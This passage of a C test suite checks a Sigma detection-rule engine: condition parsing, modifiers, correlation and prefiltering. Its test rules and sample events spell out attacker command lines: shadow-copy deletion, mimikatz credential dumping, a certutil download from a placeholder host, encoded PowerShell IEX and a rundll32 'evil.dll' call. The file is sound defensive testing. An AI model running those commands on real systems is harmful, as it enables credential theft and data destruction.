#include <criterion/criterion.h>
#include <hs/hs.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../core/arena.h"
#include "../decode/decoder.h"
#include "sigma.h"
#include "sigma_cond.h"
#include "sigma_prefilter.h"
#include "sigma_rule.h"
#include "sigma_window.h"

/* ---- conditions ------------------------------------------------------------------- */

static const char *const names[] = {"selection", "filter_main", "filter_optional_a", "sel_b",
                                    "_hidden"};
static bool truth[5];

static bool lookup(int id, void *ctx)
{
    (void)ctx;
    return truth[id];
}

static int cond(const char *text, bool s, bool fm, bool fa, bool sb, bool hidden)
{
    fk_arena a;
    fk_arena_init(&a, 4096);
    fk_cond *c;
    fk_err e;
    int rc = fk_cond_parse(text, names, 5, &a, &c, &e);
    truth[0] = s, truth[1] = fm, truth[2] = fa, truth[3] = sb, truth[4] = hidden;
    int v = rc ? -1 : fk_cond_eval(c, lookup, NULL);
    fk_arena_free(&a);
    return v;
}

Test(sigma_cond, operators_and_precedence)
{
    cr_assert_eq(cond("selection", 1, 0, 0, 0, 0), 1);
    cr_assert_eq(cond("selection and not filter_main", 1, 1, 0, 0, 0), 0);
    cr_assert_eq(cond("selection and not filter_main", 1, 0, 0, 0, 0), 1);
    cr_assert_eq(cond("selection or sel_b and filter_main", 1, 0, 0, 0, 0), 1, "and binds tighter");
    cr_assert_eq(cond("(selection or sel_b) and filter_main", 1, 0, 0, 0, 0), 0);
    cr_assert_eq(cond("not not selection", 1, 0, 0, 0, 0), 1);
    cr_assert_eq(cond("SELECTION", 1, 0, 0, 0, 0), -1, "identifiers are case-sensitive");
    cr_assert_eq(cond("selection AND NOT filter_main", 1, 0, 0, 0, 0), 1, "keywords are not");
}

Test(sigma_cond, quantifiers)
{
    cr_assert_eq(cond("selection and not 1 of filter_*", 1, 0, 1, 0, 0), 0);
    cr_assert_eq(cond("selection and not 1 of filter_*", 1, 0, 0, 0, 0), 1);
    cr_assert_eq(cond("all of filter_*", 0, 1, 1, 0, 0), 1);
    cr_assert_eq(cond("all of filter_*", 0, 1, 0, 0, 0), 0);
    cr_assert_eq(cond("1 of them", 0, 0, 0, 1, 0), 1);
    cr_assert_eq(cond("1 of them", 0, 0, 0, 0, 1), 0, "them leaves out _names");
    cr_assert_eq(cond("all of them", 1, 1, 1, 1, 0), 1);
    cr_assert_eq(cond("2 of them", 1, 0, 0, 1, 0), 1);
    cr_assert_eq(cond("2 of them", 1, 0, 0, 0, 0), 0);
    cr_assert_eq(cond("1 of sel*", 0, 0, 0, 1, 0), 1, "selection and sel_b");
}

Test(sigma_cond, errors_name_what_was_expected)
{
    fk_arena a;
    fk_arena_init(&a, 4096);
    fk_cond *c;
    fk_err e;
    cr_assert_eq(fk_cond_parse("selection and", names, 5, &a, &c, &e), -1);
    cr_assert(strstr(e.msg, "expected at the end"), "%s", e.msg);
    cr_assert_eq(fk_cond_parse("selection or nothere", names, 5, &a, &c, &e), -1);
    cr_assert(strstr(e.msg, "unknown search identifier \"nothere\""), "%s", e.msg);
    cr_assert_eq(fk_cond_parse("(selection", names, 5, &a, &c, &e), -1);
    cr_assert(strstr(e.msg, "')'"), "%s", e.msg);
    cr_assert_eq(fk_cond_parse("1 of zzz*", names, 5, &a, &c, &e), -1);
    cr_assert(strstr(e.msg, "no search identifier matches"), "%s", e.msg);
    cr_assert_eq(fk_cond_parse("selection | count() > 5", names, 5, &a, &c, &e), -1);
    cr_assert(strstr(e.msg, "unsupported: aggregation"), "%s", e.msg);
    cr_assert_eq(fk_cond_parse("selection $ x", names, 5, &a, &c, &e), -1);
    fk_arena_free(&a);
}

/* ---- rules against events --------------------------------------------------------- */

typedef struct {
    const char *k[16], *v[16];
    int n;
} fields;

static bool get(void *ctx, const char *name, fk_str *out)
{
    fields *f = ctx;
    for (int i = 0; i < f->n; i++)
        if (!strcmp(f->k[i], name)) {
            *out = (fk_str){f->v[i], strlen(f->v[i])};
            return true;
        }
    return false;
}

/* The lower-cased copy, as the set's view gives it; rule_on checks that matching on it
 * decides exactly as folding while comparing does. */
static bool get_folded(void *ctx, const char *name, fk_str *out)
{
    static _Thread_local char buf[4096];
    fk_str raw;
    if (!get(ctx, name, &raw) || raw.n > sizeof buf)
        return false;
    for (size_t i = 0; i < raw.n; i++)
        buf[i] = (char)(raw.p[i] >= 'A' && raw.p[i] <= 'Z' ? raw.p[i] | 0x20 : raw.p[i]);
    *out = (fk_str){buf, raw.n};
    return true;
}

static bool any(void *ctx, bool (*fn)(fk_str v, void *arg), void *arg)
{
    fields *f = ctx;
    for (int i = 0; i < f->n; i++)
        if (fn((fk_str){f->v[i], strlen(f->v[i])}, arg))
            return true;
    return false;
}

/* Loads one rule with the given detection and matches it against key=value pairs. */
static int rule_on(const char *detection, const char *ph_yaml, int npairs, ...)
{
    char yaml[4096];
    snprintf(yaml, sizeof yaml,
             "title: t\nid: 11111111-2222-3333-4444-555555555555\nlogsource: {product: "
             "windows}\ndetection:\n%s",
             detection);
    fk_arena a;
    fk_arena_init(&a, 1 << 16);
    fk_sigma_placeholders ph = {0};
    fk_err e, w;
    if (ph_yaml)
        cr_assert_eq(fk_sigma_placeholders_parse(ph_yaml, strlen(ph_yaml), "ph", &a, &ph, &e), 0);
    fk_sigma_rule *rules = NULL;
    size_t n = 0, cap = 0;
    int rc = fk_sigma_parse(yaml, strlen(yaml), "t.yml", &ph, &a, &rules, &n, &cap, &e, &w);
    if (rc != 0) {
        cr_log_info("%s", e.msg);
        fk_arena_free(&a);
        free(rules);
        return -1;
    }
    fields f = {.n = 0};
    va_list ap;
    va_start(ap, npairs);
    for (int i = 0; i < npairs; i++) {
        f.k[f.n] = va_arg(ap, const char *);
        f.v[f.n++] = va_arg(ap, const char *);
    }
    va_end(ap);
    fk_sigma_view view = {.get = get, .any = any, .ctx = &f};
    int m = fk_sigma_rule_match(&rules[0], &view);
    fk_sigma_view folded = {.get = get, .get_folded = get_folded, .any = any, .ctx = &f};
    cr_assert_eq(fk_sigma_rule_match(&rules[0], &folded), m, "folded and unfolded disagree");
    fk_sigma_rule_release(&rules[0]);
    free(rules);
    fk_arena_free(&a);
    return m;
}

#define SEL(x) "  selection:\n    " x "\n  condition: selection\n"

Test(sigma_rule, plain_values_wildcards_and_case)
{
    cr_assert_eq(
        rule_on(SEL("Image: 'C:\\Windows\\cmd.exe'"), NULL, 1, "Image", "c:\\windows\\CMD.EXE"), 1);
    cr_assert_eq(rule_on(SEL("Image: '*\\cmd.exe'"), NULL, 1, "Image", "C:\\x\\cmd.exe"), 1);
    cr_assert_eq(rule_on(SEL("Image: '*\\cmd.exe'"), NULL, 1, "Image", "C:\\x\\cmd.exe.bak"), 0);
    cr_assert_eq(rule_on(SEL("Image: 'c?d.exe'"), NULL, 1, "Image", "cmd.exe"), 1);
    cr_assert_eq(rule_on(SEL("Image: 'a\\*b'"), NULL, 1, "Image", "a*b"), 1, "escaped star");
    cr_assert_eq(rule_on(SEL("Image: 'a\\*b'"), NULL, 1, "Image", "axxb"), 0);
    cr_assert_eq(rule_on(SEL("Image: 'C:\\\\share'"), NULL, 1, "Image", "C:\\share"), 1,
                 "double backslash is one");
    cr_assert_eq(rule_on(SEL("EventID: 4688"), NULL, 1, "EventID", "4688"), 1, "numbers as text");
    cr_assert_eq(rule_on(SEL("EventID: [4624, 4625]"), NULL, 1, "EventID", "4625"), 1,
                 "a list is OR");
    cr_assert_eq(rule_on(SEL("Image|cased: 'CMD.exe'"), NULL, 1, "Image", "cmd.exe"), 0);
    cr_assert_eq(rule_on(SEL("Image|cased: 'CMD.exe'"), NULL, 1, "Image", "CMD.exe"), 1);
}

Test(sigma_rule, string_modifiers_and_all)
{
    cr_assert_eq(rule_on(SEL("CommandLine|contains: ' -enc '"), NULL, 1, "CommandLine",
                         "powershell -ENC aQ="),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|startswith: 'net '"), NULL, 1, "CommandLine", "net user"),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|endswith: '.ps1'"), NULL, 1, "CommandLine", "x.ps1 y"),
                 0);
    cr_assert_eq(rule_on(SEL("CommandLine|contains|all: [' -w ', 'hidden']"), NULL, 1,
                         "CommandLine", "p -w hidden"),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|contains|all: [' -w ', 'hidden']"), NULL, 1,
                         "CommandLine", "p -w normal"),
                 0);
    cr_assert_eq(rule_on(SEL("CommandLine|contains: 'a*c'"), NULL, 1, "CommandLine", "xxabbbcxx"),
                 1, "wildcards inside contains");
    cr_assert_eq(rule_on(SEL("User|neq: 'SYSTEM'"), NULL, 1, "User", "alice"), 1);
    cr_assert_eq(rule_on(SEL("User|neq: 'SYSTEM'"), NULL, 1, "User", "system"), 0);
}

Test(sigma_rule, encodings_windash_and_regular_expressions)
{
    /* "Invoke" in base64 at each of the three offsets */
    cr_assert_eq(rule_on(SEL("CommandLine|base64offset|contains: 'Invoke'"), NULL, 1, "CommandLine",
                         "-e SW52b2tl"),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|base64offset|contains: 'Invoke'"), NULL, 1, "CommandLine",
                         "-e eEludm9rZQ=="),
                 1); /* "xInvoke" */
    cr_assert_eq(rule_on(SEL("CommandLine|base64offset|contains: 'Invoke'"), NULL, 1, "CommandLine",
                         "-e eHhJbnZva2U="),
                 1); /* "xxInvoke" */
    cr_assert_eq(rule_on(SEL("CommandLine|base64|contains: 'abc'"), NULL, 1, "CommandLine", "YWJj"),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|base64|contains: 'abc'"), NULL, 1, "CommandLine", "ywjj"),
                 0, "base64 is case-sensitive");
    /* "IEX" as UTF-16LE, base64: SQBFAFgA */
    cr_assert_eq(rule_on(SEL("CommandLine|wide|base64offset|contains: 'IEX'"), NULL, 1,
                         "CommandLine", "powershell -enc SQBFAFgA"),
                 1);
    cr_assert_eq(
        rule_on(SEL("CommandLine|utf16be|base64|contains: 'A'"), NULL, 1, "CommandLine", "AEE="),
        1);
    cr_assert_eq(rule_on(SEL("CommandLine|windash|contains: ' -urlcache '"), NULL, 1, "CommandLine",
                         "certutil /urlcache -f"),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|windash|contains: ' -urlcache '"), NULL, 1, "CommandLine",
                         "certutil \xe2\x80\x93urlcache -f"),
                 1, "en dash");
    /* |all with a transformation: each written value by any of its variants */
    cr_assert_eq(rule_on(SEL("CommandLine|windash|contains|all: [' -a ', ' -b ']"), NULL, 1,
                         "CommandLine", "x /a /b "),
                 1);
    cr_assert_eq(rule_on(SEL("CommandLine|windash|contains|all: [' -a ', ' -b ']"), NULL, 1,
                         "CommandLine", "x /a -c "),
                 0);
    cr_assert_eq(
        rule_on(SEL("CommandLine|windash|contains|all: ' -a '"), NULL, 1, "CommandLine", "x -a "),
        1);
    cr_assert_eq(
        rule_on(SEL("CommandLine|re: '^net[1]? +user'"), NULL, 1, "CommandLine", "net1  user"), 1);
    cr_assert_eq(rule_on(SEL("CommandLine|re: '^NET'"), NULL, 1, "CommandLine", "net user"), 0,
                 "re is case-sensitive");
    cr_assert_eq(rule_on(SEL("CommandLine|re|i: '^NET'"), NULL, 1, "CommandLine", "net user"), 1);
    cr_assert_eq(rule_on(SEL("CommandLine|re|s: 'a.b'"), NULL, 1, "CommandLine", "a\nb"), 1);
    cr_assert_eq(rule_on(SEL("CommandLine|re|m: '^b'"), NULL, 1, "CommandLine", "a\nb"), 1);
    cr_assert_eq(rule_on(SEL("CommandLine|re: '('"), NULL, 1, "CommandLine", "x"), -1, "bad regex");
}

Test(sigma_rule, addresses_numbers_times_existence_and_references)
{
    cr_assert_eq(
        rule_on(SEL("DestinationIp|cidr: '10.0.0.0/8'"), NULL, 1, "DestinationIp", "10.2.3.4"), 1);
    cr_assert_eq(
        rule_on(SEL("DestinationIp|cidr: '10.0.0.0/8'"), NULL, 1, "DestinationIp", "11.2.3.4"), 0);
    cr_assert_eq(
        rule_on(SEL("DestinationIp|cidr: 'fe80::/10'"), NULL, 1, "DestinationIp", "fe80::1"), 1);
    cr_assert_eq(rule_on(SEL("Size|gt: 100"), NULL, 1, "Size", "101"), 1);
    cr_assert_eq(rule_on(SEL("Size|lte: 100"), NULL, 1, "Size", "101"), 0);
    cr_assert_eq(rule_on(SEL("Size|gte: 100"), NULL, 1, "Size", "abc"), 0, "not a number");
    cr_assert_eq(rule_on(SEL("Size|lt: 1.5"), NULL, 1, "Size", "1.25"), 1);
    cr_assert_eq(rule_on(SEL("UtcTime|hour: 3"), NULL, 1, "UtcTime", "2024-05-01T03:15:00Z"), 1);
    cr_assert_eq(rule_on(SEL("UtcTime|month: 6"), NULL, 1, "UtcTime", "2024-05-01T03:15:00Z"), 0);
    cr_assert_eq(rule_on(SEL("UtcTime|year: 2024"), NULL, 1, "UtcTime", "2024-05-01T03:15:00Z"), 1);
    cr_assert_eq(rule_on(SEL("Hashes|exists: true"), NULL, 1, "Hashes", "x"), 1);
    cr_assert_eq(rule_on(SEL("Hashes|exists: false"), NULL, 1, "Image", "x"), 1);
    cr_assert_eq(rule_on(SEL("Hashes|exists: maybe"), NULL, 1, "Image", "x"), -1);
    cr_assert_eq(rule_on(SEL("Hashes: null"), NULL, 1, "Image", "x"), 1, "absent is null");
    cr_assert_eq(rule_on(SEL("Hashes: null"), NULL, 1, "Hashes", ""), 1, "empty is null");
    cr_assert_eq(rule_on(SEL("Hashes: ''"), NULL, 1, "Hashes", ""), 1);
    cr_assert_eq(rule_on(SEL("Hashes: ''"), NULL, 1, "Hashes", "x"), 0);
    cr_assert_eq(rule_on(SEL("SourceUser|fieldref: TargetUser"), NULL, 2, "SourceUser", "Bob",
                         "TargetUser", "bob"),
                 1);
    cr_assert_eq(rule_on(SEL("SourceUser|fieldref|startswith: TargetUser"), NULL, 2, "SourceUser",
                         "bob$", "TargetUser", "bob"),
                 1);
    cr_assert_eq(rule_on(SEL("SourceUser|fieldref: TargetUser"), NULL, 1, "SourceUser", "bob"), 0);
    cr_assert_eq(rule_on(SEL("Image|unknownmod: x"), NULL, 1, "Image", "x"), -1);
}

Test(sigma_rule, placeholders_keywords_and_lists_of_maps)
{
    const char *ph = "admins: [alice, bob]\n";
    cr_assert_eq(rule_on(SEL("User|expand: '%admins%'"), ph, 1, "User", "BOB"), 1);
    cr_assert_eq(rule_on(SEL("User|expand: '%admins%'"), ph, 1, "User", "eve"), 0);
    cr_assert_eq(rule_on(SEL("User|expand: 'CORP\\%admins%'"), ph, 1, "User", "corp\\alice"), 1);
    cr_assert_eq(rule_on(SEL("User|expand: '%unknown%'"), ph, 1, "User", "x"), 0,
                 "no site values: never matches");
    cr_assert_eq(rule_on("  keywords:\n    - 'mimikatz'\n    - 'sekurlsa'\n  condition: keywords\n",
                         NULL, 2, "a", "x", "b", "run SEKURLSA::logonpasswords"),
                 1);
    cr_assert_eq(
        rule_on("  keywords:\n    '|all':\n      - 'foo'\n      - 'bar'\n  condition: keywords\n",
                NULL, 2, "a", "foo", "b", "bar"),
        1);
    cr_assert_eq(
        rule_on("  keywords:\n    '|all':\n      - 'foo'\n      - 'bar'\n  condition: keywords\n",
                NULL, 1, "a", "foo"),
        0);
    const char *maps = "  selection:\n    - Image|endswith: '\\a.exe'\n    - Image|endswith: "
                       "'\\b.exe'\n      CommandLine|contains: 'x'\n  condition: selection\n";
    cr_assert_eq(rule_on(maps, NULL, 1, "Image", "c:\\a.exe"), 1, "first map");
    cr_assert_eq(rule_on(maps, NULL, 2, "Image", "c:\\b.exe", "CommandLine", "y"), 0,
                 "second map: AND");
    cr_assert_eq(rule_on(maps, NULL, 2, "Image", "c:\\b.exe", "CommandLine", "xx"), 1);
    cr_assert_eq(rule_on("  a:\n    X: 1\n  condition:\n    - a and b\n", NULL, 1, "X", "1"), -1,
                 "unknown identifier in a condition list");
}

/* ---- the set: logsource mapping and correlation ----------------------------------- */

typedef struct {
    int n;
    char last[128];
    int64_t count;
} hits;

static int on_hit(void *ctx, const fk_sigma_hit *h)
{
    hits *x = ctx;
    x->n++;
    snprintf(x->last, sizeof x->last, "%s", h->rule->title);
    x->count = h->count;
    return 0;
}

static void windows_event(fk_event *ev, fk_arena *a, const char *channel, const char *id,
                          const char *user, int64_t t)
{
    fk_event_clear(ev);
    ev->has_time = true;
    ev->time_ms = t;
    fk_event_add(ev, a, FK_STR("Event.System.Channel"), (fk_str){channel, strlen(channel)});
    fk_event_add(ev, a, FK_STR("Event.System.EventID"), (fk_str){id, strlen(id)});
    fk_event_add(ev, a, FK_STR("Event.EventData.TargetUserName"), (fk_str){user, strlen(user)});
}

Test(sigma_set, logsources_and_event_count_correlation)
{
    char dir[] = "/tmp/fk-sigma-XXXXXX";
    cr_assert(mkdtemp(dir));
    char path[256];
    snprintf(path, sizeof path, "%s/r.yml", dir);
    FILE *f = fopen(path, "w");
    cr_assert(f);
    fputs("title: Failed logon\nid: f1\nname: failed_logon\nlevel: low\n"
          "logsource: {product: windows, service: security}\n"
          "detection:\n  selection: {EventID: 4625}\n  condition: selection\n"
          "---\n"
          "title: Many failed logons\nid: c1\nlevel: high\n"
          "correlation:\n  type: event_count\n  rules: [failed_logon]\n"
          "  group-by: [TargetUserName]\n  timespan: 1m\n  condition: {gte: 3}\n",
          f);
    fclose(f);
    fk_sigma_set *s;
    fk_err e;
    cr_assert_eq(fk_sigma_new(&s, NULL, NULL, &e), 0, "%s", e.msg);
    size_t loaded = 0, failed = 0;
    cr_assert_eq(fk_sigma_add_path(s, dir, NULL, NULL, &loaded, &failed, &e), 0, "%s", e.msg);
    cr_assert_eq(loaded, 2);
    cr_assert_eq(failed, 0);
    cr_assert_eq(fk_sigma_compile(s, &e), 0, "%s", e.msg);
    fk_arena a;
    fk_arena_init(&a, 1 << 14);
    fk_event ev;
    hits h = {0};
    windows_event(&ev, &a, "System", "4625", "bob", 1000); /* other channel: not Security */
    cr_assert_eq(fk_sigma_match_event(s, &ev, on_hit, &h), 0);
    for (int i = 0; i < 2; i++) {
        windows_event(&ev, &a, "Security", "4625", "bob", 2000 + i);
        fk_sigma_match_event(s, &ev, on_hit, &h);
    }
    windows_event(&ev, &a, "Security", "4625", "alice", 2500); /* another group */
    fk_sigma_match_event(s, &ev, on_hit, &h);
    cr_assert_eq(h.n, 0, "the base rule only feeds the correlation (generate: false)");
    windows_event(&ev, &a, "Security", "4625", "bob", 3000);
    fk_sigma_match_event(s, &ev, on_hit, &h);
    cr_assert_eq(h.n, 1);
    cr_assert_str_eq(h.last, "Many failed logons");
    cr_assert_eq(h.count, 3);
    windows_event(&ev, &a, "Security", "4625", "bob", 200000); /* window started again */
    fk_sigma_match_event(s, &ev, on_hit, &h);
    cr_assert_eq(h.n, 1);
    fk_arena_free(&a);
    fk_sigma_free(s);
    remove(path);
    rmdir(dir);
}

Test(sigma_set, files_that_do_not_load_are_reported)
{
    char dir[] = "/tmp/fk-sigma-XXXXXX";
    cr_assert(mkdtemp(dir));
    char path[256];
    snprintf(path, sizeof path, "%s/bad.yml", dir);
    FILE *f = fopen(path, "w");
    cr_assert(f);
    fputs("title: Bad\nlogsource: {product: windows}\ndetection:\n  sel: {A|nope: 1}\n"
          "  condition: sel\n",
          f);
    fclose(f);
    fk_sigma_set *s;
    fk_err e;
    cr_assert_eq(fk_sigma_new(&s, NULL, NULL, &e), 0);
    size_t loaded = 0, failed = 0;
    cr_assert_eq(fk_sigma_add_path(s, dir, NULL, NULL, &loaded, &failed, &e), 0);
    cr_assert_eq(loaded, 0);
    cr_assert_eq(failed, 1);
    fk_sigma_free(s);
    remove(path);
    rmdir(dir);
}

/* ---- the prefilter ---------------------------------------------------------------- */

static fk_sigma_set *set_from(const char *yaml, bool sequential, char *dir, size_t dirlen)
{
    snprintf(dir, dirlen, "/tmp/fk-sigma-XXXXXX");
    cr_assert(mkdtemp(dir));
    char path[256];
    snprintf(path, sizeof path, "%s/r.yml", dir);
    FILE *f = fopen(path, "w");
    cr_assert(f);
    fputs(yaml, f);
    fclose(f);
    fk_sigma_set *s;
    fk_err e;
    cr_assert_eq(fk_sigma_new(&s, NULL, NULL, &e), 0, "%s", e.msg);
    fk_sigma_set_sequential(s, sequential);
    size_t loaded = 0, failed = 0;
    cr_assert_eq(fk_sigma_add_path(s, dir, NULL, NULL, &loaded, &failed, &e), 0, "%s", e.msg);
    cr_assert_eq(failed, 0);
    cr_assert_eq(fk_sigma_compile(s, &e), 0, "%s", e.msg);
    remove(path);
    rmdir(dir);
    return s;
}

#define RULE(title, detection)                                                                     \
    "title: " title "\nlogsource: {product: windows, category: process_creation}\n"                \
    "detection:\n" detection "\n---\n"

static const char prefilter_rules[] = RULE(
    "contains", "  sel: {CommandLine|contains: 'vssadmin delete'}\n  condition: sel")
    RULE("not only", "  filter: {Image|endswith: '\\svchost.exe'}\n  condition: not filter") RULE(
        "regex",
        "  sel: {CommandLine|re: '(?i)-e(nc|ncodedcommand)? [a-z0-9+/]{20,}'}\n"
        "  condition: sel") RULE("keyword", "  keywords: ['mimikatz']\n  condition: keywords")
        RULE("all", "  sel: {CommandLine|contains|all: ['-urlcache', 'http']}\n  condition: sel")
            RULE("one of", "  sel_a: {Image|endswith: '\\certutil.exe'}\n"
                           "  sel_b: {OriginalFileName: 'CertUtil.exe'}\n  condition: 1 of sel_*")
                RULE("inner wildcard",
                     "  sel: {CommandLine: '*sekurlsa*logonpasswords*'}\n  condition: sel")
                    RULE("null", "  sel: {ParentImage: null}\n  condition: sel")
                        RULE("base64",
                             "  sel: {CommandLine|base64offset|contains: 'IEX'}\n  condition: sel")
                            RULE("number", "  sel: {ProcessId|gt: 60000}\n  condition: sel")
                                RULE("and with filter",
                                     "  sel: {Image|endswith: '\\rundll32.exe'}\n"
                                     "  filter: {CommandLine|contains: 'shell32.dll'}\n"
                                     "  condition: sel and not filter")
                                    RULE("cased", "  sel: {CommandLine|contains|cased: "
                                                  "'FromBase64String'}\n  condition: sel");

static void process_event(fk_event *ev, fk_arena *a, const char *image, const char *cmd,
                          const char *pid, bool parent)
{
    fk_event_clear(ev);
    fk_event_add(ev, a, FK_STR("Event.System.Channel"),
                 FK_STR("Microsoft-Windows-Sysmon/Operational"));
    fk_event_add(ev, a, FK_STR("Event.System.EventID"), FK_STR("1"));
    fk_event_add(ev, a, FK_STR("Event.EventData.Image"), (fk_str){image, strlen(image)});
    fk_event_add(ev, a, FK_STR("Event.EventData.CommandLine"), (fk_str){cmd, strlen(cmd)});
    fk_event_add(ev, a, FK_STR("Event.EventData.ProcessId"), (fk_str){pid, strlen(pid)});
    if (parent)
        fk_event_add(ev, a, FK_STR("Event.EventData.ParentImage"),
                     FK_STR("C:\\Windows\\explorer.exe"));
}

typedef struct {
    char titles[512];
} title_list;

static int collect_titles(void *ctx, const fk_sigma_hit *h)
{
    title_list *t = ctx;
    size_t l = strlen(t->titles);
    snprintf(t->titles + l, sizeof t->titles - l, "%s%s", l ? "," : "", h->rule->title);
    return 0;
}

/* Every clause of an "and" is needed: a rule is a candidate only when each of its
 * selections has its text in the event, not when the cheapest one alone has. */
Test(sigma_prefilter, every_selection_of_an_and_is_needed)
{
    static const char yaml[] =
        RULE("both", "  img: {Image|endswith: '\\cmd.exe'}\n"
                     "  cli: {CommandLine|contains: ['vssadmin', 'wbadmin', 'bcdedit']}\n"
                     "  condition: img and cli")
            RULE("either", "  img: {Image|endswith: '\\cmd.exe'}\n"
                           "  cli: {CommandLine|contains: 'vssadmin'}\n  condition: img or cli")
                RULE("map", "  sel:\n    Image|endswith: '\\cmd.exe'\n"
                            "    CommandLine|contains: 'bcdedit'\n  condition: sel");
    fk_arena a;
    fk_arena_init(&a, 1 << 16);
    fk_sigma_rule *rules = NULL;
    size_t n = 0, cap = 0;
    fk_err e, w;
    cr_assert_eq(fk_sigma_parse(yaml, strlen(yaml), "t.yml", NULL, &a, &rules, &n, &cap, &e, &w), 0,
                 "%s", e.msg);
    cr_assert_eq(n, 3);
    const fk_sigma_rule *list[3] = {&rules[0], &rules[1], &rules[2]};
    fk_sigma_prefilter *pf;
    struct hs_scratch *scratch = NULL;
    cr_assert_eq(fk_sigma_prefilter_build(&pf, list, 3, &scratch, &e), 0, "%s", e.msg);
    static const struct {
        const char *image, *cmd;
        unsigned char both, either, map;
    } cases[] = {
        {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c task17", 0, 1, 0},
        {"C:\\Windows\\System32\\CMD.EXE", "cmd /c VSSADMIN delete shadows", 1, 1, 0},
        {"C:\\Windows\\System32\\cmd.exe", "cmd /c bcdedit /set", 1, 1, 1},
        {"C:\\Tools\\x.exe", "x vssadmin", 0, 1, 0},
        {"C:\\Tools\\x.exe", "x", 0, 0, 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        fields f = {.k = {"Image", "CommandLine"}, .v = {cases[i].image, cases[i].cmd}, .n = 2};
        fk_sigma_view view = {.get = get, .any = any, .ctx = &f};
        unsigned char cand[3];
        fk_sigma_prefilter_run(pf, &view, scratch, cand);
        cr_assert_eq(cand[0], cases[i].both, "case %zu: both", i);
        cr_assert_eq(cand[1], cases[i].either, "case %zu: either", i);
        cr_assert_eq(cand[2], cases[i].map, "case %zu: map", i);
    }
    fk_sigma_prefilter_free(pf);
    hs_free_scratch(scratch);
    for (size_t i = 0; i < n; i++)
        fk_sigma_rule_release(&rules[i]);
    free(rules);
    fk_arena_free(&a);
}

Test(sigma_set, prefilter_fires_exactly_what_rule_by_rule_fires)
{
    char d1[64], d2[64];
    fk_sigma_set *pre = set_from(prefilter_rules, false, d1, sizeof d1);
    fk_sigma_set *seq = set_from(prefilter_rules, true, d2, sizeof d2);
    /* rules that need no text are evaluated on every event; the others only when their
     * text is there */
    fk_sigma_prefilter_stats st;
    fk_sigma_prefilter_totals(pre, &st);
    cr_assert_eq(st.rules, 12);
    cr_assert_eq(st.always, 3, "not only, null and number need no text (got %zu)", st.always);
    cr_assert_gt(st.patterns, 10);
    static const struct {
        const char *image, *cmd, *pid;
        bool parent;
        const char *expect;
    } cases[] = {
        {"C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs", "100", true, ""},
        {"C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN Delete shadows /all", "100", true,
         "contains,not only"},
        {"C:\\Windows\\System32\\svchost.exe", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
         "100", true, "regex"},
        {"C:\\Windows\\System32\\svchost.exe", "c:\\tools\\mimikatz.exe", "100", true, "keyword"},
        {"C:\\Windows\\System32\\svchost.exe", "certutil -urlcache -f http://x/a", "100", true,
         "all"},
        {"C:\\Windows\\System32\\svchost.exe", "certutil -urlcache -f ftp://x/a", "100", true, ""},
        {"C:\\Windows\\System32\\certutil.exe", "certutil", "100", true, "not only,one of"},
        {"C:\\Windows\\System32\\svchost.exe", "x sekurlsa::logonpasswords exit", "100", true,
         "inner wildcard"},
        {"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "100", false, "null"},
        {"C:\\Windows\\System32\\svchost.exe", "powershell -c SUVYIChOZXctT2JqZWN0", "100", true,
         "base64"},
        {"C:\\Windows\\System32\\svchost.exe", "svchost.exe", "65000", true, "number"},
        {"C:\\Windows\\System32\\rundll32.exe", "rundll32 shell32.dll,Control_RunDLL", "100", true,
         "not only"},
        {"C:\\Windows\\System32\\rundll32.exe", "rundll32 evil.dll,Run", "100", true,
         "not only,and with filter"},
        {"C:\\Windows\\System32\\svchost.exe", "[Convert]::FromBase64String($x)", "100", true,
         "cased"},
        {"C:\\Windows\\System32\\svchost.exe", "[convert]::frombase64string($x)", "100", true, ""},
    };
    fk_arena a;
    fk_arena_init(&a, 1 << 14);
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        fk_event ev;
        process_event(&ev, &a, cases[i].image, cases[i].cmd, cases[i].pid, cases[i].parent);
        title_list tp = {""}, ts = {""};
        fk_sigma_match_event(pre, &ev, collect_titles, &tp);
        fk_sigma_match_event(seq, &ev, collect_titles, &ts);
        cr_assert_str_eq(tp.titles, cases[i].expect, "case %zu (%s)", i, cases[i].cmd);
        cr_assert_str_eq(ts.titles, cases[i].expect, "case %zu rule by rule (%s)", i, cases[i].cmd);
        fk_arena_reset(&a);
    }
    fk_arena_free(&a);
    fk_sigma_free(pre);
    fk_sigma_free(seq);
}

/* Decodes audit lines in order with one decoder (records of one serial share state) and
 * checks how many rules fire on each. */
static void audit_lines_fire(fk_sigma_set *s, const char *const *lines, const int *expect, int n)
{
    fk_err e;
    fk_decoder *dec = fk_decoder_new(FK_FMT_AUDITD, NULL, 2024, &e);
    cr_assert(dec);
    fk_arena a;
    fk_arena_init(&a, 1 << 14);
    for (int i = 0; i < n; i++) {
        fk_event ev;
        const char *why;
        fk_event_clear(&ev);
        cr_assert_eq(fk_decoder_decode(dec, lines[i], strlen(lines[i]), &ev, &a, &why), FK_DEC_OK,
                     "line %d", i);
        hits h = {0};
        cr_assert_eq(fk_sigma_match_event(s, &ev, on_hit, &h), expect[i], "line %d", i);
        fk_arena_reset(&a);
    }
    fk_arena_free(&a);
    fk_decoder_free(dec);
}

Test(sigma_set, auditd_rules_read_audit_records)
{
    char d[64];
    fk_sigma_set *s = set_from("title: Immutable attribute removed\n"
                               "logsource: {product: linux, service: auditd}\n"
                               "detection:\n  sel: {type: EXECVE, a0: chattr, a1|contains: '-i'}\n"
                               "  condition: sel\n",
                               false, d, sizeof d);
    static const char *lines[] = {
        "type=EXECVE msg=audit(1700000000.123:42): argc=3 a0=\"chattr\" a1=\"-i\" a2=\"/etc/x\"",
        "type=EXECVE msg=audit(1700000000.123:43): argc=3 a0=\"chattr\" a1=\"+i\" a2=\"/etc/x\"",
        /* hex-encoded arguments are decoded before the rule reads them */
